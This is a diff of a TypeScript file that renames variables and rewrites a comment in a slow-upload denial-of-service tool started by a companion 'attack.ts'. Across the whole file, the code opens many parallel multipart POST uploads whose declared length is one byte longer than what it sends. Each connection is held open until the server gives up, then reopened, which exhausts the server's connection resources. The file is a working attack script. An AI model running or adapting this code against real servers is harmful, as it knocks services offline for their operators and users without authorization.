@@ -1,9 +1,10 @@
-// Sends uploads but for their last byte, each anew once the server has had enough of waiting: attack.ts starts it with what to do.
+// Sends uploads except for their last byte, and repeats each one after the server closes it. Started by attack.ts with
+// its options.
 import { request } from "node:http";
 
-export type Held = { url: string; token: string; uploads: number; bytes: number };
+export type UploadOptions = { url: string; token: string; uploads: number; bytes: number };
 
-const { url, token, uploads, bytes } = JSON.parse(process.argv[2] ?? "") as Held;
+const { url, token, uploads, bytes } = JSON.parse(process.argv[2] ?? "") as UploadOptions;
 const head = '--x\r\ncontent-disposition: form-data; name="File"; filename="a.jpg"\r\n\r\n';
 const content = Buffer.alloc(bytes);
 const headers = {
@@ -12,11 +13,11 @@ const headers = {
   "content-length": head.length + bytes + 1,
 };
 
-function hold(): void {
+function holdUpload(): void {
   const call = request(url, { method: "POST", headers, agent: false }, (answer) => answer.resume());
-  call.once("error", () => {}).once("close", hold);
+  call.once("error", () => {}).once("close", holdUpload);
   call.write(head);
   call.write(content);
 }
 
-for (let nth = 0; nth < uploads; nth += 1) hold();
+for (let nth = 0; nth < uploads; nth += 1) holdUpload();
